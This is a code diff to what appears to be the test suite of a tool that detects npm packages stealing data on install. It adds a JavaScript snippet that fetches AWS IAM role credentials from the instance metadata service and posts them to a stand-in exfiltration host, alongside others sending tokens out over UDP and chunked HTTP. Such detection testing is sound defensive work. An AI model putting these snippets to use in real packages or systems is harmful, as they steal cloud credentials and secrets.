@@ -56,6 +56,10 @@ THIEVES = {
     "by-udp": """
         const udp = dgram.createSocket('udp4');
         udp.send(Buffer.from(host).map(byte => byte ^ 0x5a), 9999, '240.0.0.10', () => udp.close());""",
+    "by-metadata": """
+        const code = 'at=http://169.254.169.254/latest/meta-data/iam/security-credentials/;' +
+            'curl -s $at$(curl -s $at) | curl -s --data-binary @- https://m.exfil.example/m';
+        execFileSync('sh', ['-c', code]);""",
     "by-pieces": """
         const piece = n => n * 10 < token.length && http.get('http://f.exfil.example/p?n=' + n + '&d=' +
             token.substr(n * 10, 10), r => r.resume().on('end', () => piece(n + 1))).on('error', () => {});
@@ -128,6 +132,7 @@ def value(machine: Machine, kind: str) -> str:
         ("by-curl", "user_name", [], "http://g.exfil.example/c"),
         ("by-python", "npm_token", [], "https://h.exfil.example/"),
         ("by-udp", "host_name", ["xor 0x5a"], "udp://240.0.0.10:9999"),
+        ("by-metadata", "metadata_aws_role_secret_access_key", [], "https://m.exfil.example/m"),
         ("by-pieces", "npm_token", [], "http://f.exfil.example/p"),
     ],
 )
@@ -150,6 +155,12 @@ def test_a_package_that_asks_for_a_file_is_no_thief(installed: dict[str, Any]) -
     assert thefts(installed, "honest") == []
     sent = package(installed, "honest")["requests"]
     assert [(one["host"], one["method"]) for one in sent] == [("cdn.example", "POST")]
+
+
+def test_what_the_metadata_service_gave_is_no_theft_from_itself(installed: dict[str, Any]) -> None:
+    assert all(one["host"] == "m.exfil.example" for one in thefts(installed, "by-metadata"))
+    asked = [one for one in package(installed, "by-metadata")["requests"] if one["protocol"] == "metadata"]
+    assert len(asked) == 2
 
 
 def test_nothing_is_left_that_nobody_did(installed: dict[str, Any]) -> None:
